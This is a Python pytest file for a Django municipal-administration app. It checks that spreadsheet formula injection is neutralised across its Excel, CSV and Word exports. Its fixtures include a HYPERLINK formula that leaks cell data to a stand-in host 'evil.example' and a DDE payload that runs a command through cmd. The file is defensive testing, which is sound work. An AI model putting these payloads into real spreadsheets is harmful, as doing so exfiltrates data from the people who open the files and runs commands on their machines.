"""Spreadsheet formula injection: text typed into a unit, a household or a case that starts like a formula
(=, +, -, @, tab, carriage return) comes out of every download as inert text — the ranking's .xlsx, .csv and
.docx, the ledger .xlsx and the case's 督办单 .docx — read back with openpyxl, csv and python-docx."""

import csv
import io

import pytest
from django.utils import timezone
from docx import Document
from openpyxl import load_workbook

from cases.services import case_open
from coalgov.exports import formula_looking, inert_text
from reports import ledgers

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
DDE = "+cmd|' /C calc'!A0"
URL = "/units/ranking/"
QUERY = {"week": "2025-11-05"}


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def named(town):
    """B1社区 renamed to a formula, as a careless or hostile administrator could."""
    unit = town.unit["B1"]
    unit.name = HYPERLINK
    unit.save(update_fields=["name"])
    return town


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, DDE, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "-1+1", "+4+A1", '="419901002001"'],
)
def test_formula_looking_text_is_written_behind_an_apostrophe(text):
    assert formula_looking(text)
    assert inert_text(text) == f"'{text}"


@pytest.mark.parametrize("text", ["B1社区", "-5", "+4", "\t-5", "\t419901002001", "12.50", "", "王=建国"])
def test_names_and_plain_numbers_are_left_as_written(text):
    assert not formula_looking(text)
    assert inert_text(text) == text


def test_a_formula_named_community_reads_back_as_text_from_the_ranking_xlsx(client, named):
    client.force_login(named.admin)
    response = client.get(f"{URL}download/xlsx/", QUERY)
    workbook = load_workbook(io.BytesIO(response.content))
    for ws in (workbook["全区"], workbook["B街道"]):
        cells = [row[3] for row in ws.iter_rows(min_row=3) if row[3].value == HYPERLINK]
        assert len(cells) == 1, ws.title
        assert cells[0].data_type == "s" and cells[0].quotePrefix
    # The movement stays a number: data, not text.
    movements = [row[7].value for row in workbook["全区"].iter_rows(min_row=3)]
    assert -5 in movements and 4 in movements


def test_a_formula_named_community_reads_back_as_text_from_the_ranking_csv(client, named):
    client.force_login(named.admin)
    response = client.get(f"{URL}download/csv/", QUERY)
    raw = response.content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(raw)))
    b1 = next(line for line in lines if line[3].endswith(HYPERLINK))
    assert b1[3] == f"'{HYPERLINK}"
    # The code and the movement as ="…" around their digits, the one formula written: the system writes it for
    # numbers it checked, never for text typed in (a name ="…" gets its apostrophe like any other formula).
    assert b1[2] == '="419901002001"' and b1[7] == '="-5"'

    assert all(line.startswith('"') for line in raw.splitlines())  # every field quoted


def test_a_formula_named_community_reads_back_as_text_from_the_ranking_docx(client, named):
    client.force_login(named.admin)
    response = client.get(f"{URL}download/docx/", QUERY)
    table = Document(io.BytesIO(response.content)).tables[0]
    names = [row.cells[1].text for row in table.rows]
    assert f"'{HYPERLINK}" in names
    assert [row.cells[4].text for row in table.rows][1] == "+4"  # a signed movement is no formula


def test_formula_looking_household_and_visit_text_reads_back_as_text_from_a_ledger(
    people, register, wulibao_community, media
):
    register("wulibao_admin", wulibao_community, head_name=HYPERLINK, room="101")
    register("wulibao_admin", wulibao_community, head_name=DDE, room="102")
    register("wulibao_admin", wulibao_community, head_name="@SUM(A1:A9)", room="103")
    today = timezone.localdate()
    export = ledgers.ledger_request(
        actor=people["wulibao_admin"], division=wulibao_community, start=today, end=today, sheets=["households"]
    )
    assert ledgers.ledger_run(export_id=export.pk) == "done"
    export.refresh_from_db()
    ws = load_workbook(ledgers.ledger_path(export))["住户"]
    headers = [cell.value for cell in ws[2]]  # under the title row
    column = headers.index("户主")
    cells = {row[column].value: row[column] for row in ws.iter_rows(min_row=3)}
    for text in (HYPERLINK, DDE, "@SUM(A1:A9)"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text


def test_a_formula_looking_case_title_reads_back_as_text_from_the_follow_up_sheet_docx(
    client_as, people, wulibao_community
):
    case = case_open(actor=people["qu_admin"], source="spot_check", responsible_unit=wulibao_community, title=DDE)
    response = client_as("qu_admin").get(f"/cases/{case.pk}/follow-up-sheet/", {"format": "docx"})
    assert response.status_code == 200
    table = Document(io.BytesIO(response.content)).tables[0]
    assert table.rows[0].cells[1].text == f"'{DDE}"
